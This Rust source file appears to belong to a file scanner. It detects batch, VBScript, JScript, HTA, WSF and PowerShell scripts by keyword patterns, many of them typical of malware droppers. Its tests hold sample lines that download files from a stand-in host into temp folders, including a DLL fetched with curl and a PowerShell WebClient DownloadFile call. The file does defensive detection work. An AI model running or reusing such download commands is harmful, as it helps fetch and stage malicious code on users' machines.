//! Scripts known by their text alone in places where no paper lies: behind a shortcut, under a button of a notebook.
//! Looser than what tells the kind of any text (`script`); yet a word of the language is not enough: its beginning or two
//! different marks are asked for.

use super::Kind;
use crate::text::guess;

/// How much of a file is looked at.
const LOOKED_AT: usize = 64 << 10;

/// The words that show a language: one of `sure` is enough, or two of `marks`, where the text begins with one of
/// `starts` if there are any.
struct Look {
    kind: &'static str,
    starts: &'static [&'static str],
    sure: &'static [&'static str],
    marks: &'static [&'static str],
}

#[rustfmt::skip]
const LOOKS: &[Look] = &[
    Look {
        kind: "hta", starts: &["<"],
        sure: &["<hta:application"],
        marks: &["<script", "createobject", "activexobject", "wscript.", "window.close", "self.close", "resizeto(", "execute(", "powershell", "vbscript"],
    },
    Look {
        kind: "wsf", starts: &["<"],
        sure: &["<scriptlet", "<job>", "<job id=", "<registration", "<component"],
        marks: &[],
    },
    Look {
        kind: "ps1", starts: &[],
        sure: &["frombase64string(", "invoke-expression", "new-object net.webclient", "new-object system.net.webclient", "start-bitstransfer", "[reflection.assembly]::load", "invoke-webrequest", "add-mppreference"],
        marks: &["$env:", "iex(", "iex (", "|iex", "| iex", "[system.", "[convert]::", "-join", "start-process", "write-host", "param(", "function ", "$null", "get-content", ".downloadstring(", ".downloadfile(", "foreach(", "foreach ("],
    },
    Look {
        kind: "bat", starts: &["@echo off", "@echo ", "echo off", "@cls", "cls\n", "rem ", "::", "@setlocal", "setlocal", "@set ", "set ", "start ", "@start ", "cmd ", "cmd.exe", "powershell", "mshta ", "curl ", "certutil ", "copy ", "xcopy ", "title ", "@powershell", "@cmd", "mode con", "@if ", "if not ", "rundll32", "@%", "%"],
        sure: &["@echo off", "\ngoto ", "%~dp0", "%~f0", "%~nx0", "\nexit /b", "setlocal enabledelayedexpansion", "powershell -", "powershell.exe -", "cmd /c ", "cmd.exe /c ", "start /min", "start /b"],
        marks: &["%temp%", "%appdata%", "%programdata%", "%userprofile%", ":~", "\nset ", "&&set ", "rundll32 ", "rundll32.exe ", "regsvr32 ", "mshta ", "curl ", "certutil ", "\ndel ", "\nexit", "\necho ", "\nstart ", "\ncopy ", "\nif exist", " > nul", ">nul", "timeout /t"],
    },
    Look {
        kind: "vbs", starts: &[],
        sure: &["createobject(\"wscript.shell\")", "createobject(\"shell.application\")", "getobject(\"winmgmts:", "executeglobal"],
        marks: &["createobject(", "on error resume next", "wscript.sleep", "wscript.quit", "wscript.shell", "\ndim ", "\nset ", "\nend sub", "\nend function", "chr(", "execute(", "strreverse(", "wscript.scriptfullname"],
    },
    Look {
        kind: "js", starts: &[],
        sure: &["new activexobject(", "wscript.createobject(", "new enumerator("],
        marks: &["wscript.", "fromcharcode", "eval(", "var ", "function ", "unescape(", "activexobject", "this[\"", "parseint(", ".split(\"\")", "return "],
    },
];

impl Kind {
    /// The kind of script that a text is by its words alone, whatever its name.
    pub fn of_script(bytes: &[u8]) -> Option<&'static Self> {
        let head = super::head(bytes, LOOKED_AT);
        let is_wide = head.get(1) == Some(&0) || head.starts_with(b"\xff\xfe");
        if !is_wide && !super::is_text(head) {
            return None;
        }
        let text = if is_wide { crate::text::decode("utf-16", head) } else { guess(head) };
        let text =
            text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']).to_lowercase().replace("\r\n", "\n");
        if text.starts_with("#@~^") {
            return Self::named("vbe");
        }
        LOOKS.iter().find(|look| look.fits(&text)).and_then(|look| Self::named(look.kind))
    }
}

impl Look {
    fn fits(&self, text: &str) -> bool {
        let begins = self.starts.is_empty() || self.starts.iter().any(|start| text.starts_with(start));
        let count = || self.marks.iter().filter(|mark| text.contains(*mark)).count();
        begins
            && (self.sure.iter().any(|word| text.contains(word)) || count() >= 2)
            && self.is_no_prose(text, count)
    }

    /// Letters and minutes mention commands; a language that may begin anyhow needs a third sign where lines are long
    /// sentences.
    fn is_no_prose(&self, text: &str, count: impl Fn() -> usize) -> bool {
        let sentences = text.matches(". ").count() + text.matches("。").count();
        let code = text.matches([';', '=', '(', '{', '$', '%']).count();
        !self.starts.is_empty() || code > sentences * 4 && count() + code > 3
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_known_without_a_name() {
        let rows: &[(&[u8], &str)] = &[
            (b"@echo off\r\nstart notepad\r\n", "bat"),
            (b"  @ECHO OFF\r\n%~dp0x.exe", "bat"),
            (b"set a=pow\r\nset b=er\r\n%a%%b% x\r\nexit\r\n", "bat"),
            (b"rem x\r\ncurl http://a.example/x -o %temp%\\x.dll\r\n", "bat"),
            (b"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\na.Run \"calc\"", "vbs"),
            (b"On Error Resume Next\r\nDim x\r\nx = Chr(67) & Chr(68)\r\nExecute(x)\r\n", "vbs"),
            (b"var a = new ActiveXObject('WScript.Shell'); a.Run('calc');", "js"),
            (b"<html><head><script language=\"vbscript\">CreateObject(\"x\")</script>", "hta"),
            (b"<HTA:APPLICATION icon=\"#\" />", "hta"),
            (b"<?xml version=\"1.0\"?><job id=\"1\"><script language=\"JScript\">x</script></job>", "wsf"),
            (b"$a = New-Object Net.WebClient; $a.DownloadFile('http://a.example/', \"$env:TEMP\\x\")", "ps1"),
            (b"#@~^AAAA==", "vbe"),
        ];
        for (bytes, want) in rows {
            let got = Kind::of_script(bytes).map(|kind| kind.id);
            assert_eq!(got, Some(*want), "{}", String::from_utf8_lossy(bytes));
            let wide: Vec<u8> = guess(bytes).encode_utf16().flat_map(u16::to_le_bytes).collect();
            assert_eq!(Kind::of_script(&wide).map(|kind| kind.id), got);
        }
    }

    #[test]
    fn papers_and_data_are_no_scripts() {
        for paper in [
            "Dear all,\r\nplease start the program and set the date. We copy the files tomorrow.\r\n",
            "手順書\r\nPowerShell を管理者で起動し、Start-Process を実行してください。結果は Write-Host で表示されます。",
            "a,b,c\r\n1,2,3\r\n",
            "{\"a\": 1, \"b\": [1,2,3]}",
            "<html><head><title>x</title></head><body>text</body></html>",
            "<?xml version=\"1.0\"?><invoice><total>5</total></invoice>",
            "Start of the meeting: 10:00\r\nEnd: 11:00\r\n",
            "SELECT a FROM b WHERE c = 1;",
            "The function returns a value. We evaluate (see var 1). Please return the form.",
            "",
        ] {
            assert_eq!(Kind::of_script(paper.as_bytes()), None, "{paper}");
        }
        assert_eq!(Kind::of_script(&[0; 500]), None);
        assert_eq!(Kind::of_script(b"\x01\x02\x03@echo off"), None);
    }
}
